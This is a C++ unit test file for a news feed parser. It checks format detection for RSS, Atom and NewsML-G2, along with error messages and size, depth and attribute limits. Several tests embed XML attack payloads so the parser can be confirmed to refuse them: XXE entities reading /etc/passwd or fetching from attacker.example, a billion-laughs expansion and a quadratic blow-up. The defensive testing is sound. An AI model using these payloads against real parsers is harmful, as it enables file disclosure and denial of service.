#include <set>
#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "formats/feed_parser.h"

namespace wiredesk::formats {
namespace {

using ::testing::HasSubstr;
using ::testing::StartsWith;

TEST(Registry, FormatsHaveDistinctNamesAndCanBeFound) {
  std::set<std::string_view> names;
  for (const FeedFormat* format : RegisteredFormats()) {
    EXPECT_TRUE(names.insert(format->name()).second) << format->name();
    EXPECT_EQ(FindFormat(format->name()), format);
  }
  EXPECT_THAT(names, ::testing::IsSupersetOf({"rss", "atom", "newsml-g2"}));
  EXPECT_EQ(FindFormat("no-such-format"), nullptr);
}

struct DetectCase {
  std::string_view name;
  std::string bytes;
  std::string_view format;
};

TEST(Registry, DetectsTheFormatFromContent) {
  const DetectCase kCases[] = {
      {"rss", "<rss version=\"2.0\"><channel><item><guid>1</guid></item></channel></rss>",
       "rss2.0"},
      {"rss after prolog",
       "\xEF\xBB\xBF<?xml version=\"1.0\"?>\n<!-- made by hand -->\n<?xml-stylesheet href=\"s\"?>"
       "<!DOCTYPE rss>\n<rss version=\"0.92\"><channel/></rss>",
       "rss0.92"},
      {"rdf",
       "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" "
       "xmlns=\"http://purl.org/rss/1.0/\"><channel/></rdf:RDF>",
       "rss1.0"},
      {"atom", "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><id>1</id></entry></feed>",
       "atom1.0"},
      {"atom without namespace", "<feed><entry><id>1</id></entry></feed>", "atom1.0"},
      {"atom whose text mentions rss",
       "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>&lt;rss&gt;</title></feed>", "atom1.0"},
      {"newsml-g2 item", "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"g\"/>",
       "newsml-g2"},
      {"newsml-g2 message",
       "<n:newsMessage xmlns:n=\"http://iptc.org/std/nar/2006-10-01/\"><n:itemSet/>"
       "</n:newsMessage>",
       "newsml-g2"},
  };
  for (const DetectCase& c : kCases) {
    auto feed = ParseFeed(c.bytes);
    ASSERT_TRUE(feed) << c.name << ": " << feed.error().ToString();
    EXPECT_EQ(feed->format, c.format) << c.name;
  }
}

TEST(Registry, DetectScoresAreZeroForOtherFormats) {
  const FeedFormat* rss = FindFormat("rss");
  const FeedFormat* atom = FindFormat("atom");
  const FeedFormat* g2 = FindFormat("newsml-g2");
  std::string_view atom_doc = "<feed xmlns=\"http://www.w3.org/2005/Atom\"/>";
  EXPECT_EQ(rss->Detect(atom_doc), 0);
  EXPECT_EQ(g2->Detect(atom_doc), 0);
  EXPECT_GT(atom->Detect(atom_doc), 0);
  EXPECT_EQ(atom->Detect("<rss/>"), 0);
  // An RDF document that is not RSS is no feed.
  EXPECT_EQ(rss->Detect("<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"/>"), 0);
}

TEST(Registry, RefusesUnknownFormatsWithOneLineReason) {
  // JSON, but neither a JSON Feed nor a ninjs item.
  auto json = ParseFeed(R"({"version": "2.0", "items": [], "title": "not a known format"})");
  ASSERT_FALSE(json);
  EXPECT_EQ(json.error().code(), core::ErrorCode::kInvalidArgument);
  EXPECT_THAT(json.error().message(), StartsWith("not a recognised feed format: "));
  EXPECT_EQ(json.error().message().find('\n'), std::string::npos);

  auto html = ParseFeed("<!DOCTYPE html><html><body>hi</body></html>");
  ASSERT_FALSE(html);
  EXPECT_THAT(html.error().message(), HasSubstr("<html>"));

  auto empty = ParseFeed("");
  ASSERT_FALSE(empty);
  EXPECT_THAT(empty.error().message(), HasSubstr("empty input"));

  auto binary = ParseFeed(std::string("\x00\x01\x02\xff", 4));
  ASSERT_FALSE(binary);
  EXPECT_EQ(binary.error().code(), core::ErrorCode::kInvalidArgument);
}

TEST(Registry, CapsTheDocumentSize) {
  ParseOptions options;
  options.max_bytes = 16;
  auto feed = ParseFeed("<rss version=\"2.0\"><channel/></rss>", options);
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code(), core::ErrorCode::kResourceExhausted);
  // Each parser enforces the cap too, for callers that skip detection.
  auto direct = FindFormat("rss")->Parse("<rss version=\"2.0\"><channel/></rss>", options);
  ASSERT_FALSE(direct);
  EXPECT_EQ(direct.error().code(), core::ErrorCode::kResourceExhausted);
}

TEST(Registry, RefusesEntityDeclarationsWhateverTheFormat) {
  auto feed = ParseFeed(
      "<!DOCTYPE feed [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
      "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>&e;</title></feed>");
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code(), core::ErrorCode::kInvalidArgument);
  EXPECT_THAT(feed.error().message(), HasSubstr("DOCTYPE"));
}

TEST(Registry, ReportsXmlThatDoesNotParse) {
  auto feed = ParseFeed("<rss version=\"2.0\"");
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code(), core::ErrorCode::kInvalidArgument);
  EXPECT_THAT(feed.error().message(), StartsWith("not well-formed XML"));
}

TEST(Registry, RefusesDeepNestingWithAClearError) {
  constexpr int kDepth = 10000;
  std::string deep = "<rss version=\"2.0\"><channel><item><guid>1</guid><title>";
  for (int i = 0; i < kDepth; ++i) deep += "<b>";
  deep += "deep";
  for (int i = 0; i < kDepth; ++i) deep += "</b>";
  deep += "</title></item></channel></rss>";
  auto feed = ParseFeed(deep);
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code(), core::ErrorCode::kResourceExhausted);
  EXPECT_THAT(feed.error().message(), HasSubstr("nest deeper than the limit of 256"));

  // Cut off while still deep: refused the same way, not recovered.
  std::string cut = "<rss version=\"2.0\"><channel><item><guid>1</guid><description>";
  for (int i = 0; i < 200000; ++i) cut += "<div>";
  auto truncated = ParseFeed(cut);
  ASSERT_FALSE(truncated);
  EXPECT_EQ(truncated.error().code(), core::ErrorCode::kResourceExhausted);

  // Within the limit, nesting is fine, and the limit is the caller's to set.
  std::string shallow = "<rss version=\"2.0\"><channel><item><guid>1</guid><title>";
  for (int i = 0; i < 100; ++i) shallow += "<b>";
  shallow += "deep";
  for (int i = 0; i < 100; ++i) shallow += "</b>";
  shallow += "</title></item></channel></rss>";
  auto ok = ParseFeed(shallow);
  ASSERT_TRUE(ok) << ok.error().ToString();
  EXPECT_EQ(ok->items.at(0).headline, "deep");
  ParseOptions strict;
  strict.max_depth = 50;
  EXPECT_FALSE(ParseFeed(shallow, strict));
}

TEST(Registry, RefusesHugeAttributes) {
  std::string huge = "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><id>1</id><link href=\"";
  huge += std::string(10 * 1024 * 1024, 'a');
  huge += "\"/></entry></feed>";
  auto feed = ParseFeed(huge);
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code(), core::ErrorCode::kResourceExhausted);
  EXPECT_THAT(feed.error().message(), HasSubstr("XML attribute href is 10485760 bytes"));
}

TEST(Registry, RefusesExternalEntitiesOfEveryKind) {
  for (std::string_view declaration :
       {"<!ENTITY e SYSTEM \"file:///etc/passwd\">",
        "<!ENTITY e SYSTEM \"http://attacker.example/x\">",
        "<!ENTITY e PUBLIC \"-//X//EN\" \"https://attacker.example/x.dtd\">",
        "<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;"}) {
    std::string doc = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [" + std::string(declaration) +
                      "]><rss version=\"2.0\"><channel><item><guid>1</guid><title>&e;</title>"
                      "</item></channel></rss>";
    auto feed = ParseFeed(doc);
    ASSERT_FALSE(feed) << declaration;
    EXPECT_EQ(feed.error().code(), core::ErrorCode::kInvalidArgument);
    EXPECT_THAT(feed.error().message(), HasSubstr("DOCTYPE declares entities"));
  }
  // An external DTD with no declarations of its own is never fetched: references to its
  // entities stay text.
  auto external = ParseFeed(
      "<!DOCTYPE rss SYSTEM \"http://attacker.example/rss.dtd\"><rss version=\"2.0\"><channel>"
      "<item><guid>1</guid><title>a &secret; b</title></item></channel></rss>");
  ASSERT_TRUE(external) << external.error().ToString();
  EXPECT_EQ(external->items.at(0).headline, "a &secret; b");
}

TEST(Registry, RefusesEntityExpansionAttacks) {
  // Billion laughs: ten levels, each ten of the one below.
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">";
  for (int i = 1; i <= 9; ++i) {
    laughs += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int j = 0; j < 10; ++j) laughs += "&lol" + std::to_string(i - 1) + ";";
    laughs += "\">";
  }
  laughs += "]><rss version=\"2.0\"><channel><title>&lol9;</title></channel></rss>";
  // Quadratic blow-up: one 100 KB entity referenced 10,000 times.
  std::string quadratic = "<!DOCTYPE feed [<!ENTITY a \"" + std::string(100000, 'a') + "\">]>" +
                          "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>";
  for (int i = 0; i < 10000; ++i) quadratic += "&a;";
  quadratic += "</title></feed>";
  for (const std::string& doc : {laughs, quadratic}) {
    auto feed = ParseFeed(doc);
    ASSERT_FALSE(feed);
    EXPECT_EQ(feed.error().code(), core::ErrorCode::kInvalidArgument);
    EXPECT_THAT(feed.error().message(), HasSubstr("DOCTYPE declares entities"));
  }
  // Without the declarations the references are unknown names, kept as text, never expanded.
  std::string undeclared = "<rss version=\"2.0\"><channel><title>";
  for (int i = 0; i < 1000; ++i) undeclared += "&lol9;";
  undeclared += "</title></channel></rss>";
  auto feed = ParseFeed(undeclared);
  ASSERT_TRUE(feed) << feed.error().ToString();
  EXPECT_EQ(feed->feed.title.size(), 6000u);
}

TEST(Registry, RefusesDocumentsOverTheConfiguredSize) {
  ParseOptions options;
  options.max_bytes = 1024;
  std::string doc =
      "<rss version=\"2.0\"><channel><title>" + std::string(2000, 'x') + "</title></channel></rss>";
  auto feed = ParseFeed(doc, options);
  ASSERT_FALSE(feed);
  EXPECT_EQ(feed.error().code(), core::ErrorCode::kResourceExhausted);
  EXPECT_THAT(feed.error().message(), HasSubstr("over the limit of 1024"));
  options.max_bytes = 4096;
  EXPECT_TRUE(ParseFeed(doc, options));
}

TEST(Registry, ContentLanguageFillsWhatTheDocumentLeavesEmpty) {
  ParseOptions options;
  options.content_language = "da, en-gb";
  auto feed = ParseFeed(
      "<rss version=\"2.0\"><channel><item><guid>1</guid></item>"
      "<item><guid>2</guid><dc:language xmlns:dc=\"http://purl.org/dc/elements/1.1/\">fr"
      "</dc:language></item></channel></rss>",
      options);
  ASSERT_TRUE(feed) << feed.error().ToString();
  EXPECT_EQ(feed->feed.language, "da");
  ASSERT_EQ(feed->items.size(), 2u);
  EXPECT_EQ(feed->items[0].language, "da");
  EXPECT_EQ(feed->items[1].language, "fr");
}

}  // namespace
}  // namespace wiredesk::formats
